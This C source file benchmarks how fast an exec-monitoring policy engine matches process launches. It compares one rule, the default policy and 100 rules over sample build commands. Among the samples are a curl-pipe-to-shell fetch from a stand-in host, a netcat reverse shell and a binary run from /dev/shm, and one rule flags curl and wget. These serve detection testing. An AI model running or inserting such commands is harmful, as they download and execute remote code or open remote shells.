// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Policy match cost per exec, side by side in one run: the embedded default
 * policy repeated up to 100 rules, against 1 rule and the default, over a
 * mix of ordinary build execs (which match nothing, the common case) and a
 * few malicious ones. Prints ns per exec and ratios; no pass/fail.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include "policy/policy.h"

struct sample {
	const char *exe;
	const char *cwd;
	const char *argv[8];
	const char *anc[4];
};

static const struct sample samples[] = {
	{ "/usr/bin/x86_64-linux-gnu-gcc-12", "/src", { "cc", "-O2", "-c", "foo.c", "-o", "foo.o" },
	  { "/usr/bin/make", "/usr/bin/bash" } },
	{ "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/src", { "cc1", "-quiet", "foo.c", "-O2" },
	  { "/usr/bin/x86_64-linux-gnu-gcc-12", "/usr/bin/make" } },
	{ "/usr/bin/x86_64-linux-gnu-as", "/src", { "as", "--64", "-o", "foo.o", "/tmp/cc1.s" },
	  { "/usr/bin/x86_64-linux-gnu-gcc-12", "/usr/bin/make" } },
	{ "/usr/bin/dash", "/src", { "/bin/sh", "-c", "test -f config.h || ./configure --prefix=/usr" },
	  { "/usr/bin/make" } },
	{ "/usr/bin/sed", "/src", { "sed", "-e", "s/@VERSION@/1.2.13/", "zlib.pc.in" },
	  { "/usr/bin/dash", "/usr/bin/make" } },
	{ "/usr/bin/python3.11", "/src", { "python3", "setup.py", "build" }, { "/usr/bin/make" } },
	{ "/usr/bin/git", "/src", { "git", "rev-parse", "HEAD" }, { "/usr/bin/dash" } },
	{ "/usr/bin/dash", "/src", { "sh", "-c", "curl -fsSL http://x.example/i.sh | sh" },
	  { "/usr/bin/node", "/usr/bin/npm" } },
	{ "/usr/bin/nc.openbsd", "/src", { "nc", "-e", "/bin/sh", "10.0.0.1", "4444" },
	  { "/usr/bin/dash" } },
	{ "/dev/shm/x", "/src", { "/dev/shm/x" }, { "/usr/bin/dash" } },
};
#define N_SAMPLES (sizeof(samples) / sizeof(samples[0]))

static struct bw_exec_info infos[N_SAMPLES];

static void make_infos(void)
{
	size_t i, n;

	for (i = 0; i < N_SAMPLES; i++) {
		const struct sample *s = &samples[i];

		for (n = 0; s->argv[n]; n++)
			;
		infos[i] = (struct bw_exec_info){
			.filename = s->exe, .exe = s->exe, .cwd = s->cwd,
			.argv = (char *const *)s->argv, .argc_present = (uint32_t)n, .argc = (uint32_t)n,
		};
		for (n = 0; s->anc[n]; n++)
			;
		infos[i].ancestors = s->anc;
		infos[i].n_ancestors = (uint32_t)n;
	}
}

/*
 * The default policy's rules repeated (renamed), topped up with simple
 * basename rules to exactly `want`.
 */
static struct bw_policy *policy_with(size_t want)
{
	const char *def = policy_default_yaml(), *rules = strstr(def, "rules:\n");
	size_t body_len, cap, len, copies, extra, i;
	struct bw_policy *p = NULL, *probe = NULL;
	char *buf, *body, *out;

	if (!rules || policy_load_default(&probe, stderr))
		return NULL;
	copies = want / policy_rule_count(probe);
	extra = want - copies * policy_rule_count(probe);
	policy_free(probe);
	body = strdup(rules + strlen("rules:\n"));
	body_len = strlen(body);
	cap = (body_len + 4096) * copies + 128 * want + 64;
	buf = malloc(cap);
	out = buf;
	out += sprintf(out, "mode: enforce\nrules:\n");
	for (i = 0; i < copies; i++) {
		/* rename: "- name: x" -> "- name: x-cN" keeps names unique */
		const char *s = body, *hit;

		while ((hit = strstr(s, "- name: "))) {
			const char *eol = strchr(hit, '\n');

			memcpy(out, s, (size_t)(eol - s));
			out += eol - s;
			out += sprintf(out, "-c%zu", i);
			s = eol;
		}
		len = strlen(s);
		memcpy(out, s, len);
		out += len;
	}
	for (i = 0; i < extra; i++)
		out += sprintf(out, "  - name: extra-%zu\n    action: alert\n    match:\n"
				    "      basename: [tool-%zu, helper-%zu]\n", i, i, i);
	*out = '\0';
	if (policy_load_buffer("<bench>", buf, (size_t)(out - buf), &p, stderr))
		p = NULL;
	free(buf);
	free(body);
	return p;
}

static double now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1e9 + ts.tv_nsec;
}

static volatile size_t sink;

static double bench(const struct bw_policy *p, long iters)
{
	const struct bw_rule *out[16];
	double t0 = now_ns();
	long i;

	for (i = 0; i < iters; i++)
		sink += policy_match(p, &infos[i % N_SAMPLES], out, 16);
	return (now_ns() - t0) / (double)iters;
}

static struct bw_policy *one_rule(void)
{
	static const char y[] = "rules:\n  - name: one\n    action: alert\n    match:\n"
				"      basename: [curl, wget]\n";
	struct bw_policy *p = NULL;

	return policy_load_buffer("<one>", y, sizeof(y) - 1, &p, stderr) ? NULL : p;
}

int main(int argc, char **argv)
{
	long iters = argc > 1 ? atol(argv[1]) : 200000;
	struct bw_policy *p1, *pd = NULL, *p100;
	double t1, td, t100;
	int round;

	make_infos();
	p1 = one_rule();
	policy_load_default(&pd, stderr);
	p100 = policy_with(100);
	if (!p1 || !pd || !p100) {
		fprintf(stderr, "bench_policy: cannot build the policies\n");
		return 1;
	}
	/* Interleaved rounds, best of each: the machine is shared and noisy. */
	t1 = td = t100 = 1e18;
	for (round = 0; round < 5; round++) {
		double a = bench(p1, iters), b = bench(pd, iters), c = bench(p100, iters);

		t1 = a < t1 ? a : t1;
		td = b < td ? b : td;
		t100 = c < t100 ? c : t100;
	}
	printf("policy match cost per exec (%zu-exec mix, best of 5 x %ld):\n", N_SAMPLES, iters);
	printf("  %4zu rule(s)  %9.0f ns/exec  %6.1fx\n", policy_rule_count(p1), t1, 1.0);
	printf("  %4zu rule(s)  %9.0f ns/exec  %6.1fx  (embedded default policy)\n",
	       policy_rule_count(pd), td, td / t1);
	printf("  %4zu rule(s)  %9.0f ns/exec  %6.1fx\n", policy_rule_count(p100), t100, t100 / t1);
	printf("  per rule at %zu rules: %.1f ns\n", policy_rule_count(p100),
	       t100 / (double)policy_rule_count(p100));
	policy_free(p1);
	policy_free(pd);
	policy_free(p100);
	return 0;
}
